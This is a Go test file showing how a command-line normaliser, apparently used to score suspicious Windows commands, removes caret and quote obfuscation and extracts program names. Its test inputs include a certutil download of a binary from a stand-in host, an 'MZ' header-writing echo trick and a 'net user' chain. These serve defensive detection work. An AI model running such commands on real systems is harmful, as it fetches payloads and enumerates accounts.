package normalize_test

import (
	"fmt"

	"scorecmdline/src/normalize"
)

func ExampleAppend() {
	fmt.Printf("%s\n", normalize.Append(nil, []byte(`"C:\Windows\System32\CERTUTIL.EXE"  -url^cache  -f http://x/a.bin a.bin`)))
	fmt.Printf("%s\n", normalize.Append(nil, []byte(`echo|set /p="MZ">x`)))
	// Output:
	// c:\windows\system32\certutil -urlcache -f http://x/a.bin a.bin
	// echo | set /p=mz > x
}

func ExampleNormalizer() {
	var n normalize.Normalizer
	n.Run([]byte(`c"er"tutil -f x & net user`))
	fmt.Printf("%s soft %v seps %v\n", n.Out, n.Soft, n.Seps)
	// Output:
	// certutil -f x & net user soft [1 3] seps [14]
}

func ExampleAppendProgram() {
	fmt.Printf("%s\n", normalize.AppendProgram(nil, []byte(`"C:\Windows\System32\cmd.exe" /c whoami`)))
	fmt.Printf("%s\n", normalize.AppendName(nil, []byte(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`)))
	// Output:
	// cmd
	// winword
}
